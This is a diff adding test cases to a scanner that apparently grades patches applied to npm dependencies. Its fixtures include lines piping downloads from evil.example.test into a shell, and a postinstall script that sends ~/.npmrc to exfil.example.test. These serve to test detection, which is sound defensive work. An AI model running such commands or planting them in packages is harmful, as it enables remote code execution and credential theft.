@@ -28,6 +28,29 @@ const GYP_PATCH = [
   "+{ 'targets': [] }",
   '',
 ].join('\n');
+const CURL_PATCH = patchOf(
+  'index.js',
+  ['module.exports = 1;'],
+  ['require("child_process").execSync("curl https://evil.example.test/x | sh");', 'module.exports = 1;'],
+);
+// The binding in a context line, the call on an added one; a removed line that did the same counts for nothing.
+const CONTEXT_PATCH = [
+  'diff --git a/lib/run.js b/lib/run.js',
+  '--- a/lib/run.js',
+  '+++ b/lib/run.js',
+  '@@ -10,3 +10,3 @@',
+  " const { execSync } = require('child_process');",
+  '-execSync("curl https://old.example.test/x | sh");',
+  '+execSync(`wget -qO- https://evil.example.test/p | bash`);',
+  ' module.exports = {};',
+  '',
+].join('\n');
+const REMOVED_ONLY_PATCH = patchOf('index.js', ['require("child_process").execSync("curl https://evil.example.test/x | sh");'], ['module.exports = 1;']);
+const EXFIL_SCRIPT_PATCH = patchOf(
+  'package.json',
+  ['  "scripts": {'],
+  ['  "scripts": {', '    "postinstall": "curl -d @$HOME/.npmrc https://exfil.example.test/",'],
+);
 const TEST_SCRIPT_PATCH = patchOf('package.json', ['  "scripts": {'], ['  "scripts": {', '    "test": "node test.js",']);
 
 const base = lockTree({ 'node_modules/a': registryEntry('a', '1.0.0'), 'node_modules/b': registryEntry('b', '1.0.0') });
@@ -50,6 +73,12 @@ const md5Base32 = (text: string): string => {
 };
 
 describe('patched-dependency', () => {
+  it('an install script a patch adds is high at least, and as grave as its command when worse (a credential sent out: critical)', () => {
+    expect(findings(withPatches([patch('patches/a.patch', EXFIL_SCRIPT_PATCH)])).map(({ severity, detail }) => [severity, detail.code])).toEqual([
+      ['critical', 'patch-adds-install-script'],
+    ]);
+  });
+
   it.each([
     [
       'a patch of the code: low, naming the file',
@@ -71,6 +100,55 @@ describe('patched-dependency', () => {
           { code: 'patch-adds-install-script', file: 'patches/a.patch', script: 'preinstall', command: 'curl https://x.example.test | sh' },
         ],
       ],
+    ],
+    [
+      'index.js patched to pipe a download into a shell: high, as the same line in an install script',
+      [patch('patches/a.patch', CURL_PATCH)],
+      [
+        [
+          'node_modules/a',
+          'high',
+          {
+            code: 'patch-adds-code',
+            file: 'patches/a.patch',
+            path: 'index.js',
+            signals: [
+              { kind: 'network', file: 'index.js', line: 1, excerpt: 'curl https://evil.example.test/x | sh', host: 'evil.example.test' },
+              { kind: 'download-and-execute', file: 'index.js', line: 1, excerpt: 'curl https://evil.example.test/x | sh', host: 'evil.example.test' },
+            ],
+          },
+        ],
+      ],
+    ],
+    [
+      'a call added below a binding in the context: judged, on the added line only',
+      [patch('patches/a.patch', CONTEXT_PATCH)],
+      [
+        [
+          'node_modules/a',
+          'high',
+          {
+            code: 'patch-adds-code',
+            file: 'patches/a.patch',
+            path: 'lib/run.js',
+            signals: [
+              { kind: 'network', file: 'lib/run.js', line: 11, excerpt: 'wget -qO- https://evil.example.test/p | bash', host: 'evil.example.test' },
+              {
+                kind: 'download-and-execute',
+                file: 'lib/run.js',
+                line: 11,
+                excerpt: 'wget -qO- https://evil.example.test/p | bash',
+                host: 'evil.example.test',
+              },
+            ],
+          },
+        ],
+      ],
+    ],
+    [
+      'a patch that removes such a line: low',
+      [patch('patches/a.patch', REMOVED_ONLY_PATCH)],
+      [['node_modules/a', 'low', { code: 'patched-dependency', file: 'patches/a.patch' }]],
     ],
     [
       'a binding.gyp the patch adds (node-gyp rebuild at install)',
